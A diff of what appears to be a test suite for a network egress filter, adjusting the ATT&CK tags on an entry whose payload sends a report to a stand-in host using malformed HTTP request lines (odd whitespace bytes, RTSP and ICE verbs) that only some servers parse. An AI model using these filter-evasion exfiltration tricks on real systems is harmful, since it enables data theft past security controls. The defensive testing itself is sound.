@@ -516,7 +516,7 @@ for before in ("POST", "\\r\\npost"):
     talk("opaque.example", 8080, before + said)
 """, allow=['{ host = "opaque.example", ports = [8080] }'], rule="passage_leaves", effect=carried),
     # Python splits the line at every blank of Latin-1, Node takes the methods and versions of RTSP, others any word.
-    NetAttempt(29, "a request line that only some servers read", "T1041", """
+    NetAttempt(29, "a request line that only some servers read", "T1041|T1071.001", """
 body = b"\\r\\nHost: opaque.example:8080\\r\\nContent-Length: %d\\r\\n\\r\\n" % len(report) + report.encode()
 lines = [b"POST" + blank + b"/in" + blank + b"HTTP/1.1" for blank in (b"\\xa0", b"\\x85", b"\\x1c", b"\\x1d", b"\\x1e", b"\\x1f", b"\\xe2\\x80\\x83")]
 lines += [b"SET_PARAMETER /in RTSP/1.0", b"GET_PARAMETER /in rtsp/1.1", b"X_SOURCE /in ICE/1.0", b"\\x1cPOST /in HTTP/1.1", b"{ /in HTTP/1.1", b"post /in\\x01 HTTP/1.1"]
